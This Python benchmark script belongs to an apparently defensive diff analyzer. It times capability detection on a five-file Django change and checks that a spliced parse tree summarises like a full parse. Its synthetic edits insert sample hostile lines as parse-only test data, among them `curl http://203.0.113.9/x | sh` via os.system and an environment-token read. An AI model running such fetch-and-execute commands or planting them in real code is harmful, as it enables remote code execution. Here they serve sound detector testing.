"""CPU of the capability model on the benchmark's 5-file change (issue #12), and a check that the
tree spliced for the text before a change summarises like a full parse.

    python benchmarks/delta_cost.py [--runs 5]
    DIFFSENTRY_REPO=/path/to/old/checkout python benchmarks/delta_cost.py   # the same, older code
    python benchmarks/delta_cost.py --check DIR [DIR...]   # splice vs full parse on random edits

Prints medians of CPU seconds (this process, the deep thread included; Semgrep's processes are
not counted): the capability delta of an in-process `diff --patch` run of bench_django.py's
5-file change (`pipeline._capabilities`, --no-cache); the six combination rules' own time in the
libcst engine over the five files (their `visit_Module`: summaries and reach), and the engine
with every libcst rule and without the six (noisier: a difference of two runs). `--check`
edits every file under DIR in seven ways (a top-level line added or removed, a call added in a
function, statements wrapped in a string, an import, a decorator, a constant bound twice),
each in both directions, and compares the summary of `splice.tree_before` with that of a full
parse, nodes rendered as code.
"""

from __future__ import annotations

import argparse
import functools
import os
import random
import statistics
import sys
import tempfile
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, os.environ.get("DIFFSENTRY_REPO") or str(HERE.parent))
sys.path.insert(1, str(HERE.parent))

from analyzer import parse, pipeline  # noqa: E402
from analyzer.catalogue import load_catalogue  # noqa: E402
from analyzer.diff import Revisions  # noqa: E402
from analyzer.engines import cst  # noqa: E402
from analyzer.sources import Project  # noqa: E402
from benchmarks.bench_django import five_file_patch  # noqa: E402
from benchmarks.cst_cost import django_root  # noqa: E402

COMBINATION = ("DS114", "DS125", "DS163", "DS183", "DS504", "DS531")


def delta_cpu(root: Path, patch: Path) -> float:
    """CPU seconds of `pipeline._capabilities` in one in-process diff run."""
    spent: list[float] = []
    original = pipeline._capabilities

    def timed(*args, **kwargs):  # type: ignore[no-untyped-def]
        start = time.process_time()
        try:
            return original(*args, **kwargs)
        finally:
            spent.append(time.process_time() - start)

    pipeline._capabilities = timed  # type: ignore[assignment]
    try:
        parse._CST_CACHE.clear()
        parse._AST_CACHE.clear()
        report = pipeline.scan_change(Revisions.for_patch(root, patch.read_text()), load_catalogue(), pipeline.Options())
    finally:
        pipeline._capabilities = original  # type: ignore[assignment]
    assert not report.failed, report.notices
    return spent[0]


def engine_cpu(root: Path, patch: Path, rules) -> float:  # type: ignore[no-untyped-def]
    """CPU seconds of the libcst engine over the five changed files (parsed beforehand)."""
    files, _ = Revisions.for_patch(root, patch.read_text()).sources()
    pairs = [(f, parse.parse_source(f.path, f.text)) for f in files]
    for _, parsed in pairs:
        parsed.module  # noqa: B018 - parse outside the timing
    project = Project(root, {f.path: f.text for f in files})
    start = time.process_time()
    cst.run(pairs, rules, project)
    return time.process_time() - start


def combination_cpu(root: Path, patch: Path, rules) -> float:  # type: ignore[no-untyped-def]
    """CPU seconds the six combination rules spend in the engine (their `visit_Module`, where
    the summaries are made and walked), with every libcst rule running."""
    from analyzer.engines.cst.rules import behaviour

    spent: list[float] = []
    original = behaviour._CombinationRule.visit_Module

    @functools.wraps(original)  # libcst finds visitor methods by their __name__
    def timed(self, node):  # type: ignore[no-untyped-def]
        start = time.process_time()
        try:
            return original(self, node)
        finally:
            spent.append(time.process_time() - start)

    behaviour._CombinationRule.visit_Module = timed  # type: ignore[method-assign]
    try:
        engine_cpu(root, patch, rules)
    finally:
        behaviour._CombinationRule.visit_Module = original  # type: ignore[method-assign]
    return sum(spent)


def measure(runs: int) -> None:
    root = django_root()
    every = load_catalogue().for_engine("cst")
    without = tuple(spec for spec in every if spec.id not in COMBINATION)
    with tempfile.TemporaryDirectory() as scratch:
        patch = Path(scratch) / "five.patch"
        patch.write_text(five_file_patch(root))
        delta_cpu(root, patch)  # imports and first-use costs out of the figures
        rows: dict[str, list[float]] = {}
        for _ in range(runs):
            rows.setdefault("capability delta (pipeline._capabilities)", []).append(delta_cpu(root, patch))
            rows.setdefault("the six combination rules in the engine", []).append(
                combination_cpu(root, patch, every))
            for label, rules in (("libcst engine, every rule", every), ("libcst engine, without the six", without)):
                rows.setdefault(label, []).append(engine_cpu(root, patch, rules))
    import analyzer

    print(f"code: {Path(analyzer.__file__).parent.parent}; the benchmark's 5-file change")
    for label, values in rows.items():
        print(f"{label:42} {statistics.median(values):6.3f} s CPU (median of {runs})")


def check(directories: list[str]) -> int:
    import libcst

    from analyzer.engines.cst.capabilities import splice
    from analyzer.engines.cst.capabilities.summary import summarise

    code = libcst.Module(body=[]).code_for_node

    def rendered(module):  # type: ignore[no-untyped-def]
        if module is None:
            return None
        summary = summarise("m.py", module)
        out: list[object] = [list(summary.aliases.items()), summary.classes, summary.imports]
        for scope in summary.scopes.values():
            out.append((scope.qualname, scope.params, scope.context, scope.klass, scope.reads_files,
                        sorted(scope.net), [(x.kind, x.detail, x.grade, x.host, sorted(x.tokens), code(x.node), g)
                                            for x, g in scope.facts],
                        [(e.key, e.verb, e.guard, code(e.node)) for e in scope.edges],
                        [(w, code(a), code(c)) for w, a, c in scope.sinks], [(n, code(v)) for n, v in scope.assigns],
                        [code(r) for r in scope.returns], [(n, code(v)) for n, v in scope.handles.items()],
                        [code(w) for w in scope.walks]))
        return out

    rnd = random.Random(12)

    def edits(text: str) -> list[str]:
        lines = splice._LINE.findall(text)
        tops = [i for i, line in enumerate(lines) if line.strip() and line[:1] not in " \t\r\n#)]}"]
        inner = [i for i, line in enumerate(lines) if line.startswith("    ") and line.strip()
                 and not line.rstrip().endswith((",", "(", "[", "{", "\\", ":"))]
        if not tops:
            return []
        i = rnd.choice(tops)
        out = ["".join(lines[:i] + ["DEBUG_TOKEN = __import__('os').environ.get('DEBUG_TOKEN', '')\n"] + lines[i:]),
               "".join(lines[:i] + lines[i + 1:]),
               "".join(lines[:i] + ['_X = """\n'] + lines[i:i + 3] + ['"""\n'] + lines[i + 3:]),
               "import subprocess as os\n" + text,
               "".join(lines[:i] + ["BASE = 'http://203.0.113.9'\n"] + lines[i:] + ["BASE = 'x'\n"])]
        if lines[i].startswith(("def ", "class ")):
            out.append("".join(lines[:i] + ["@atexit.register\n"] + lines[i:]))
        if inner:
            j = rnd.choice(inner)
            indent = lines[j][:len(lines[j]) - len(lines[j].lstrip())]
            out.append("".join(lines[:j + 1] + [indent + "os.system('curl http://203.0.113.9/x | sh')\n"] + lines[j + 1:]))
        return out

    def run() -> int:
        cases = different = 0
        for directory in directories:
            for path in sorted(Path(directory).rglob("*.py")):
                text = path.read_text(encoding="utf-8", errors="surrogateescape")
                for other in edits(text):
                    for before, after in ((text, other), (other, text)):
                        after_tree = parse.parse_source(path.name, after).module
                        if after_tree is None:
                            continue
                        cases += 1
                        full = parse.parse_source(path.name, before).module
                        if rendered(splice.tree_before(path.name, before, after, after_tree)) != rendered(full):
                            different += 1
                            print(f"different: {path}")
        print(f"{cases} (before, after) pairs, {different} summarised differently")
        return 1 if different else 0

    return parse.run_deep(run)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--runs", type=int, default=5)
    parser.add_argument("--check", nargs="+", metavar="DIR")
    args = parser.parse_args()
    if args.check:
        return check(args.check)
    measure(args.runs)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
